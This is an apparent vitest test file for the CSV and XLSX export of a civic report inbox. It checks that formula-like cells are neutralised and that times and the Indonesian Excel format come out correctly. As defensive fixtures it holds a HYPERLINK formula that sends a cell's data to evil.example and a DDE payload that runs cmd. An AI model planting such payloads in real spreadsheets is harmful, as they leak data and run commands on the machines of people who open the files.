import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvStream, csvText, neutraliseCell } from '../../api/core/export/csv';
import { call, createTestApp, type TestApp } from '../support/app';
import { createLaksaRegion, fileLaksaReport, type LaksaRegion } from '../support/laksa';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")';
const DDE = "+cmd|' /C calc'!A0";
const WIB = { timeZone: 'WIB' } as const;

describe('the CSV writer (api/core/export/csv.ts)', () => {
  it('prefixes every cell a spreadsheet would run as a formula with a quote', () => {
    for (const evil of [HYPERLINK, DDE, '-2+3+cmd|x', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-1+2', '+'])
      expect(neutraliseCell(evil), JSON.stringify(evil)).toBe(`'${evil}`);
  });

  it('leaves plain text, plain numbers and number-like strings (coordinates, prices) alone', () => {
    for (const ok of ['Jalan rusak', '-6.17', '+62', '106.63', '-0.5e3', '13500', 'a=b', ''])
      expect(neutraliseCell(ok)).toBe(ok);
    expect(csvText([[-6.17, 106.63, 13500]], WIB)).toBe('-6.17,106.63,13500\n');
  });

  it('guards both the one-shot and the streaming writer', async () => {
    expect(parse(csvText([[HYPERLINK, DDE]], WIB))).toEqual([[`'${HYPERLINK}`, `'${DDE}`]]);
    const stream = csvStream({ header: true, columns: ['a', 'b'], ...WIB });
    stream.write([DDE, -6.17]);
    stream.end();
    let text = '';
    for await (const chunk of stream) text += chunk;
    expect(parse(text)).toEqual([
      ['a', 'b'],
      [`'${DDE}`, '-6.17'],
    ]);
  });
});

describe('CSV for the people who open it', () => {
  const at = new Date('2026-12-04T03:05:09.123Z');
  it("writes instants in the region's time zone, never as UTC `Z`", () => {
    expect(csvText([[at, at.toISOString()]], { timeZone: 'WIB' })).toBe(
      '2026-12-04T10:05:09+07:00,2026-12-04T10:05:09+07:00\n',
    );
    expect(csvText([[at]], { timeZone: 'WIT' })).toBe('2026-12-04T12:05:09+09:00\n');
  });

  it('writes the Indonesian Excel dialect: `;`, decimal comma, local time Excel reads, a BOM', () => {
    const text = csvText([['Pasar Anyar', -6.181, 106.63, 13500, at]], {
      timeZone: 'WITA',
      dialect: 'excel-id',
      header: true,
      columns: ['pasar', 'lintang', 'bujur', 'harga', 'waktu'],
    });
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.slice(1).split('\n')).toEqual([
      'pasar;lintang;bujur;harga;waktu',
      'Pasar Anyar;-6,181;106,63;13500;2026-12-04 11:05:09',
      '',
    ]);
    // Still formula-safe in this dialect.
    expect(csvText([[DDE]], { timeZone: 'WIB', dialect: 'excel-id' })).toContain(`'${DDE}`);
  });
});

describe('LAKSA inbox exports of hostile citizen text', () => {
  let t: TestApp;
  let g: LaksaRegion;
  beforeAll(async () => {
    t = await createTestApp();
    g = await createLaksaRegion(t);
    await fileLaksaReport(t, g, { description: HYPERLINK, address: DDE });
  });
  afterAll(() => t.close());

  it('the CSV has no cell that starts a formula', async () => {
    const res = await call(t, g.r, { method: 'GET', url: '/api/m/laksa/inbox/export.csv', as: g.operator });
    expect(res.statusCode).toBe(200);
    const cells: string[] = parse(res.body.replace(/^\uFEFF/, '')).flat();
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain(`'${DDE}`);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('the XLSX keeps the text as text cells, never formulas', async () => {
    const res = await call(t, g.r, { method: 'GET', url: '/api/m/laksa/inbox/export.xlsx', as: g.operator });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells = wb.getWorksheet('Laporan')!.getRow(2);
    const found = [] as unknown[];
    cells.eachCell((c) => {
      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      found.push(c.value);
    });
    expect(found).toContain(HYPERLINK);
  });

  it('the XLSX has a frozen, filterable header and real date cells in local time', async () => {
    const res = await call(t, g.r, { method: 'GET', url: '/api/m/laksa/inbox/export.xlsx', as: g.operator });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Laporan')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    const header = sheet.getRow(1).values as string[];
    const created = sheet.getRow(2).getCell(header.indexOf('Dibuat'));
    expect(created.type).toBe(ExcelJS.ValueType.Date);
    expect(created.numFmt).toContain('yyyy');
    expect(sheet.getColumn(header.indexOf('Deskripsi')).width).toBeGreaterThan(30);
  });

  it('the CSV comes in the Indonesian Excel dialect on request, times in the region zone', async () => {
    const standard = await call(t, g.r, {
      method: 'GET',
      url: '/api/m/laksa/inbox/export.csv',
      as: g.operator,
    });
    expect(standard.body).toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00/);
    expect(standard.body).not.toMatch(/\d{2}:\d{2}:\d{2}(\.\d+)?Z/);
    const excel = await call(t, g.r, {
      method: 'GET',
      url: '/api/m/laksa/inbox/export.csv?dialect=excel-id',
      as: g.operator,
    });
    const [head, first] = excel.body.replace(/^\uFEFF/, '').split('\n');
    expect(head!.split(';')).toContain('Lintang');
    expect(first).toMatch(/;-7,25;110,4;/);
  });
});
